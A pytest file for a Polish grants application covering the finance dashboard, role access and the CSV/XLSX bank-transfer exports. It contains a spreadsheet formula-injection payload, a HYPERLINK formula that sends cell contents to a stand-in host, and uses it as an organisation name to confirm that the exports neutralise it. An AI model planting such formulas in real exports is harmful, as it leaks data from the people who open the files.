"""The finance dashboard and the bank export: what each user sees, the year selector, the
chart and its table, the CSV (BOM, semicolons, exact amounts) and the XLSX parsed back, and
formula injection through an organisation's name."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import openpyxl
from flask_babel import refresh

from grants.contracts.models import TrancheCondition
from grants.extensions import db
from tests.conftest import login
from tests.support.contract_factory import make_contract
from tests.support.factories import make_organisation
from tests.support.finance import pay_return, set_today, settle_example
from tests.support.statements import count_statements

A = dt.date
D = Decimal
EVIL = '=HYPERLINK("http://zly.example/?x="&A1,"Kliknij")'


def _dashboard(client, user, query=""):
    login(client, user)
    return client.get(f"/finanse{query}")


def test_dashboard_lists_with_links_and_totals(client, world):
    set_today(A(2026, 12, 21))
    unpaid = make_contract(world, tranches=(
        (A(2026, 12, 1), D("1000.00"), TrancheCondition.NONE),
        (A(2026, 12, 28), D("2000.50"), TrancheCondition.PARTIAL_REPORT)))
    settled = make_contract(world, paid=True, competition=world.competition)
    settlement = settle_example(settled)
    pay_return(settlement.parts[1], D("50.00"), A(2026, 12, 15))
    db.session.commit()
    response = _dashboard(client, world.finance)
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert f'href="/umowy/{unpaid.id}"' in html and f'href="/umowy/{settled.id}"' in html
    assert f'href="/rozliczenia/{settlement.id}"' in html
    assert "1\xa0000,00\xa0zł" in html                       # payable total
    assert "2\xa0000,50\xa0zł" in html                       # blocked, with the reason
    assert "Transza wymaga przyjętego sprawozdania częściowego." in html
    assert "po terminie" in html
    # returns: 200 + 150 + 400 left
    assert "750,00\xa0zł" in html
    # the chart: inline SVG with a title and a description, and the table of the same figures
    assert html.count("<svg") == 2 and 'role="img"' in html
    assert re.search(r"<title id=\"wykres-miesiace-title\">", html)
    assert "Kwoty w miesiącach roku 2026" in html
    assert "26\xa0000,00\xa0zł" in html                     # paid in March and in June
    assert world.competition.title in html
    assert ' style="' not in html and "<script>" not in html  # CSP: no inline styles/scripts
    assert "Eksport przelewów do banku" in html


def test_officers_see_the_dashboard_of_their_organiser_only(client, world):
    set_today(A(2026, 11, 30))
    contract = make_contract(world)
    db.session.commit()
    html = _dashboard(client, world.officer).get_data(as_text=True)
    assert contract.number in html
    assert "Eksport przelewów do banku" not in html           # the export is finance's
    response = _dashboard(client, world.officer_b)
    assert response.status_code == 200 and contract.number not in response.get_data(True)
    assert _dashboard(client, world.ngo_admin).status_code == 403


def test_year_selector_and_a_refused_year(client, world):
    set_today(A(2027, 2, 1))
    make_contract(world, paid=True)
    db.session.commit()
    html = _dashboard(client, world.finance, "?rok=2026&dni=30").get_data(as_text=True)
    assert "Pieniądze w roku 2026" in html and "26\xa0000,00\xa0zł" in html
    assert '<option selected value="30">' in html or 'value="30" selected' in html
    response = _dashboard(client, world.finance, "?rok=1999&dni=abc")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "Pieniądze w roku 2027" in html
    assert html.count("Wybierz jedną z dostępnych pozycji.") == 2


def _export_data(world):
    set_today(A(2026, 2, 25))
    evil = make_organisation(EVIL, index=2)
    first = make_contract(world)                       # 13 000.00 due 02.03, 13 000.00 01.06
    second = make_contract(world, organisation=evil, tranches=(
        (A(2026, 2, 20), D("1234.56"), TrancheCondition.NONE),
        (A(2026, 3, 1), D("99.99"), TrancheCondition.PARTIAL_REPORT)))   # blocked: not exported
    make_contract(world, organiser=world.org_b)         # another organiser's
    db.session.commit()
    return first, second, evil


def test_csv_export(client, world):
    first, second, evil = _export_data(world)
    login(client, world.finance)
    response = client.get("/finanse/przelewy.csv")       # default: today + 7 days
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "przelewy-do-2026-03-04.csv" in response.headers["Content-Disposition"]
    raw = response.data
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Numer umowy", "Organizacja", "Rachunek bankowy (IBAN)", "Kwota (zł)",
                       "Tytuł przelewu", "Termin płatności"]
    # a Polish spreadsheet reads the amount as a number (decimal comma) and the date as a date
    assert rows[1:] == [
        [second.number, "'" + EVIL, evil.iban, "1234,56",
         f"Umowa {second.number}, transza 1", "20.02.2026"],
        [first.number, world.ngo_x.name, world.ngo_x.iban, "13000,00",
         f"Umowa {first.number}, transza 1", "02.03.2026"]]
    # a later day takes the June tranche too
    rows = list(csv.reader(io.StringIO(
        client.get("/finanse/przelewy.csv?do=2026-06-01").data.decode("utf-8-sig")),
        delimiter=";"))
    assert [r[3] for r in rows[1:]] == ["1234,56", "13000,00", "13000,00"]


def test_csv_export_in_english(client, world):
    first, second, evil = _export_data(world)
    world.finance.locale = "en"
    db.session.commit()
    login(client, world.finance)
    refresh()
    raw = client.get("/finanse/przelewy.csv").data
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=","))
    assert rows[0][3] == "Amount (PLN)"
    assert rows[1] == [second.number, "'" + EVIL, evil.iban, "1234.56",
                       f"Umowa {second.number}, transza 1", "2026-02-20"]
    assert rows[2][3] == "13000.00"


def test_xlsx_export(client, world):
    first, second, evil = _export_data(world)
    login(client, world.finance)
    response = client.get("/finanse/przelewy.xlsx?do=2026-03-02")
    assert response.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(response.data)).active
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0][3] == "Kwota (zł)"
    assert values[1][:3] == [second.number, EVIL, evil.iban]  # as typed: no apostrophe
    assert ws.cell(2, 2).data_type == "s"                     # a text cell, never run
    amount = ws.cell(2, 4)
    assert amount.data_type == "n" and amount.number_format == "0.00"
    assert D(str(amount.value)).quantize(D("0.01")) == D("1234.56")
    assert D(str(ws.cell(3, 4).value)).quantize(D("0.01")) == D("13000.00")
    assert ws.cell(2, 6).value.date() == A(2026, 2, 20)
    assert values[2][4] == f"Umowa {first.number}, transza 1"
    assert len(values) == 3


def test_export_refusals(client, world):
    _export_data(world)
    login(client, world.officer)
    assert client.get("/finanse/przelewy.csv").status_code == 403
    login(client, world.finance)
    response = client.get("/finanse/przelewy.csv?do=jutro")
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert "Podaj datę w formacie RRRR-MM-DD" in html and 'value="jutro"' in html


def test_dashboard_statements_do_not_grow_with_contracts(client, world):

    set_today(A(2026, 12, 1))
    login(client, world.finance)
    counts = []
    for more in (2, 10):
        for i in range(more):
            make_contract(world, paid=i % 2 == 0,
                          competition=world.competition if i % 3 else None)
        db.session.commit()
        with count_statements() as statements:
            html = client.get("/finanse?dni=60").get_data(as_text=True)
        assert html.count('href="/umowy/') >= more
        counts.append(len(statements))
    assert counts[0] == counts[1], counts


def test_dashboard_in_english(client, world):
    set_today(A(2026, 12, 21))
    make_contract(world, paid=True)
    db.session.commit()
    login(client, world.finance)
    with client.session_transaction() as sess:
        sess["lang"] = "en"
    world.finance.locale = "en"
    db.session.commit()
    html = client.get("/finanse").get_data(as_text=True)
    assert '<html lang="en">' in html
    assert "December" in html and "PLN\xa026,000.00" in html


def test_long_lists_show_the_first_rows_with_totals_over_all(client, world, monkeypatch):
    from grants.finance import views

    monkeypatch.setattr(views, "LIST_LIMIT", 2)
    set_today(A(2026, 12, 21))
    for _ in range(3):
        make_contract(world, tranches=((A(2026, 12, 1), D("1000.00"), TrancheCondition.NONE),))
    db.session.commit()
    page = _dashboard(client, world.finance).get_data(as_text=True)
    assert "Pokazano 2 z 3 pozycji; sumy obejmują wszystkie." in page
    assert page.count("/umowy/") - page.count("/umowy/nowa") >= 2
    total = re.search(r"Razem do wypłaty</th><td class=\"money\">([^<]+)<", page).group(1)
    assert total == "3\xa0000,00\xa0zł"
    full = client.get("/finanse?wszystko=1").get_data(as_text=True)
    assert "Pokazano" not in full


def test_many_competitions_are_charted_as_the_largest_plus_the_rest(world):
    from grants.finance import queries, views

    rows = [queries.MoneyRow(label=f"Konkurs {i}", competition_id=i, paid=D(i)) for i in
            range(1, 21)]
    with_rest = views._top_competitions(rows, 5)
    assert [r.label for r in with_rest[:5]] == [f"Konkurs {i}" for i in range(16, 21)]
    assert with_rest[5].label == "Pozostałe (15)" and with_rest[5].paid == D(sum(range(1, 16)))
    assert views._top_competitions(rows[:6], 5) == rows[:6]      # one more is not summed
